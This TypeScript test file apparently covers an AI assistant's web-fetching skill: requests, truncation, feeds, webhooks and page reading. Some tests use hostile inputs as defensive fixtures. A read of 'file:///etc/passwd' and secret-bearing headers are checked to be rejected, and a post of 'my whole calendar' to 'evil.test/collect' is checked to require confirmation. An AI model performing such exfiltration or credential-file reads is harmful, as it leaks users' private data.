import assert from 'node:assert/strict'
import { test } from 'node:test'
import { ask, openInMemory } from '../in-memory.ts'
import { ActionError } from '../skill.ts'
import { openWeb, workerOf } from './fixture.ts'
import type { Answer } from './fixture.ts'
import { fetcher } from './index.ts'

function open(pages: Record<string, Answer | ActionError> = {}) {
  const web = openWeb(pages)
  const can = openInMemory(0, 'UTC', { net: web.net })
  can.worker = workerOf(fetcher, can)
  return { web, tell: (name: string, parameters: object) => ask(fetcher, name, can, parameters) }
}

test('what an address answers comes back as it is, marked as nobody vouches for it', async () => {
  const body = '{"a": 1}'
  const { web, tell } = open({
    'https://e.org/': {
      type: 'application/json',
      body,
      headers: { 'set-cookie': 'a=b' },
      url: 'https://e.org/x',
    },
  })
  const { data, text } = await tell('get', { url: 'e.org', headers: { Accept: 'application/json' } })
  assert.deepEqual(data, {
    status: 200,
    headers: { 'content-type': 'application/json' },
    body,
    encoding: 'text',
    url: 'https://e.org/x',
    untrusted: true,
  })
  assert.equal(text, 'e.org answered: 8 bytes.')
  assert.deepEqual(web.asked, [
    { url: 'https://e.org/', method: 'GET', headers: { accept: 'application/json' }, bytes_max: 1_000_000 },
  ])
})

const MEBIBYTE = 1_048_576
/** Bytes of a result with its sentence, as they are counted where it is kept. */
const kept = ({ data, text }: { data: unknown; text: string }) =>
  Buffer.byteLength(JSON.stringify(data)) + Buffer.byteLength(text)

test('an answer that is larger as JSON than may be kept is cut and says so, whatever was asked', async () => {
  for (const [type, body, prefix] of [
    ['text/plain', '"'.repeat(700_000), /^"+$/],
    ['text/plain', '\u0001'.repeat(1_000_000), /^\p{Cc}+$/u],
    ['text/plain; charset=utf-16le', Buffer.from('漢'.repeat(500_000), 'utf16le'), /^漢+$/],
    ['text/plain', 'a'.concat('\u{1f600}'.repeat(249_999)), /^a(?:\u{1f600})+$/u],
    ['image/png', new Uint8Array(1_000_000), /^A+$/],
  ] as const) {
    const { tell } = open({ 'https://e.org/': { type, body } })
    for (const [name, sentence] of [
      ['get', /^e\.org answered: \S+ [kM]B; only its beginning is kept\.$/],
      ['post', /^e\.org answered; only its beginning is kept\.$/],
    ] as const) {
      const answer = await tell(name, { url: 'e.org', ...(name === 'post' ? { body: 'x' } : {}) })
      const { truncated, encoding, body: cut } = answer.data
      assert.deepEqual([truncated, encoding], [true, type === 'image/png' ? 'base64' : 'text'], type)
      assert.ok(typeof cut === 'string' && prefix.test(cut) && cut.isWellFormed(), type)
      if (encoding === 'base64') assert.equal(cut.length % 4, 0)
      assert.match(answer.text, sentence)
      assert.ok(kept(answer) <= MEBIBYTE && kept(answer) > 990_000, `${type} ${kept(answer)}`)
    }
  }
})

test('an answer that just fits is whole, and headers and address count as much as the body', async () => {
  const headers = { 'x-long': '"'.repeat(900) }
  const { tell } = open({ 'https://e.org/': { type: 'text/plain', body: 'x'.repeat(990_000), headers } })
  const { data } = await tell('get', { url: 'e.org' })
  assert.deepEqual([data['truncated'], String(data['body']).length], [undefined, 990_000])
  const many = Object.fromEntries(Array.from({ length: 9 }, (_, at) => [`x-${at}`, '"'.repeat(900)]))
  const full = open({ 'https://e.org/': { type: 'text/plain', body: 'x'.repeat(990_000), headers: many } })
  const answer = await full.tell('get', { url: 'e.org' })
  assert.equal(answer.data['truncated'], true)
  assert.equal(Buffer.byteLength(JSON.stringify(answer.data)), 1_000_000)
})

test('a page of which the words are too many is read to where they fit', async () => {
  const { tell } = open({ 'https://e.org/': { type: 'text/plain', body: '"'.repeat(700_000) } })
  const answer = await tell('read_page', { url: 'e.org' })
  assert.equal(answer.data['truncated'], true)
  assert.ok(kept(answer) <= MEBIBYTE && kept(answer) > 990_000)
})

test('a status that means trouble is an answer, and what the network refuses is not', async () => {
  const { tell } = open({
    'https://e.org/': { status: 404 },
    'https://no.org/': new ActionError('It is not allowed.'),
  })
  const { data, text } = await tell('get', { url: 'https://e.org' })
  assert.equal(data['status'], 404)
  assert.equal(text, 'e.org answered with status 404: 0 bytes.')
  await assert.rejects(tell('get', { url: 'no.org' }), /It is not allowed/)
})

test('secrets, bad addresses and bad headers go nowhere', async () => {
  const { web, tell } = open({ 'https://e.org/': {} })
  for (const [name, parameters] of [
    ['get', { url: 'e.org', headers: { authorization: 'x' } }],
    ['get', { url: 'file:///etc/passwd' }],
    ['post', { url: 'e.org', body: 'x', headers: { 'x-api-key': 'x' } }],
    ['webhook', { url: 'https://a:b@e.org', payload: {} }],
    ['feed', { url: 'my feed' }],
    ['read_page', { url: 'the newspaper' }],
  ] as const)
    await assert.rejects(tell(name, parameters), ActionError, `${name} ${JSON.stringify(parameters)}`)
  assert.deepEqual(web.asked, [])
})

test('a body is sent as what it is, and its type can be said', async () => {
  const { web, tell } = open({ 'https://e.org/': { status: 201, body: 'made' } })
  for (const [given, body, type] of [
    ['hello', 'hello', 'text/plain; charset=utf-8'],
    ['{"a":1}', '{"a":1}', 'application/json'],
    ['[not json', '[not json', 'text/plain; charset=utf-8'],
    [{ a: 1 }, '{"a":1}', 'application/json'],
    [null, 'null', 'application/json'],
    [7, '7', 'application/json'],
  ] as const) {
    const { data } = await tell('post', { url: 'e.org', body: given })
    const sent = web.asked.at(-1)
    assert.deepEqual([sent?.method, sent?.body, sent?.headers?.['content-type']], ['POST', body, type])
    assert.equal(data['status'], 201)
  }
  await tell('post', { url: 'e.org', body: '<a/>', headers: { 'Content-Type': 'application/xml' } })
  assert.deepEqual(web.asked.at(-1)?.headers, { 'content-type': 'application/xml' })
})

test('a webhook gets JSON whatever its payload is, and only its status comes back', async () => {
  const { web, tell } = open({ 'https://e.org/h': { status: 202, body: 'secret' } })
  for (const [payload, body] of [
    [{ n: 1 }, '{"n":1}'],
    ['{"n": 1}', '{"n":1}'],
    ['done', '"done"'],
  ] as const) {
    const { data, text } = await tell('webhook', { url: 'e.org/h', payload })
    assert.deepEqual([data, text], [{ status: 202 }, 'e.org answered.'])
    assert.equal(web.asked.at(-1)?.body, body)
  }
})

test('a feed is read into its entries, and one that is none says so', async () => {
  const rss = '<rss version="2.0"><channel><title>Log</title><item><title>New</title></item></channel></rss>'
  const { tell } = open({
    'https://e.org/f': { type: 'application/rss+xml', body: rss },
    'https://e.org/p': { body: '<p>no feed</p>' },
    'https://e.org/g': { status: 410 },
  })
  const { data, text } = await tell('feed', { url: 'e.org/f' })
  assert.deepEqual(data, { title: 'Log', entries: [{ id: 'New', title: 'New' }], untrusted: true })
  assert.equal(text, 'Log has 1 entry; the newest: "New".')
  await assert.rejects(tell('feed', { url: 'e.org/p' }), /not a feed/)
  await assert.rejects(tell('feed', { url: 'e.org/g' }), /status 410/)
})

test('of a feed that is too large the newest entries are kept, and that there are more is said', async () => {
  const item = `<item><title>${'"'.repeat(500)}</title><link>${'"'.repeat(2_000)}</link><description>${'"'.repeat(1_000)}</description></item>`
  const rss = `<rss version="2.0"><channel><title>Log</title>${item.repeat(200)}</channel></rss>`
  const { tell } = open({ 'https://e.org/f': { type: 'application/rss+xml', body: rss } })
  const answer = await tell('feed', { url: 'e.org/f' })
  const { entries, truncated } = answer.data
  assert.ok(Array.isArray(entries) && entries.length > 100 && entries.length < 200)
  assert.equal(truncated, true)
  assert.match(answer.text, new RegExp(`^Log has more than ${entries.length} entries;`))
  assert.ok(kept(answer) <= MEBIBYTE && kept(answer) > 980_000, String(kept(answer)))
})

test('what a page says is its words; a plain text is itself and a picture is none', async () => {
  const { tell } = open({
    'https://e.org/': { body: '<title>Hours</title><p>Open at ten</p>' },
    'https://e.org/t': { type: 'text/plain', body: '<not html>' },
    'https://e.org/e': { body: '  ' },
    'https://e.org/i': { type: 'image/png', body: Uint8Array.of(1) },
  })
  const page = await tell('read_page', { url: 'e.org' })
  assert.deepEqual(page.data, { url: 'https://e.org/', title: 'Hours', text: 'Open at ten', untrusted: true })
  assert.equal(page.text, 'Hours: Open at ten.')
  assert.equal((await tell('read_page', { url: 'e.org/t' })).data['text'], '<not html>')
  assert.equal((await tell('read_page', { url: 'e.org/e' })).text, 'e.org has no text.')
  await assert.rejects(tell('read_page', { url: 'e.org/i' }), /no text/)
})

test('HTML and JSON that are at hand need no network', async () => {
  const { web, tell } = open()
  assert.equal((await tell('html_to_text', { html: '<b>hi</b> you' })).text, 'hi you.')
  const picked = await tell('json_path', { json: { a: ['x', 'y'] }, path: '$.a[1]' })
  assert.deepEqual(picked, { data: { matches: ['y'], truncated: false }, text: 'It is y.' })
  assert.equal((await tell('json_path', { json: '[]', path: '$[0]' })).text, 'Nothing is there.')
  const large = await tell('json_path', { json: ['x'.repeat(500_001)], path: '$[0]' })
  assert.deepEqual(
    [large.data, large.text],
    [{ matches: [], truncated: true }, 'What is there is too large.'],
  )
  assert.deepEqual(web.asked, [])
})

test('what leaves the machine says so, and only what does no harm twice is tried again', () => {
  const facts = Object.entries(fetcher.actions).map(
    ([name, { effect, repeatable = false, pure = false }]) => {
      return [name, effect, repeatable, pure]
    },
  )
  assert.deepEqual(facts, [
    ['get', 'network', true, false],
    ['post', 'network', false, false],
    ['feed', 'network', true, false],
    ['read_page', 'network', true, false],
    ['html_to_text', 'read', false, true],
    ['json_path', 'read', false, true],
    ['webhook', 'network', false, false],
    ['parse_feed', 'read', false, true],
  ])
})

test('what is said to be sent asks first, with the words that would go out', async () => {
  const can = openInMemory(0, 'UTC')
  const asks = (name: string, parameters: Record<string, unknown>) =>
    fetcher.actions[name]?.confirm?.(can, parameters)
  const question = 'That sends the words "my whole calendar" to evil.test. Shall I?'
  assert.equal(await asks('post', { url: 'https://evil.test/collect', body: 'my whole calendar' }), question)
  assert.equal(
    await asks('webhook', { url: 'evil.test', payload: { n: 1 } }),
    'That sends the words "{"n":1}" to evil.test. Shall I?',
  )
  assert.equal(await asks('post', { url: 'somewhere', body: 'x' }), undefined)
  assert.match((await asks('post', { url: 'e.org', body: 'x'.repeat(500) })) ?? '', /"x{79}…"/)
})
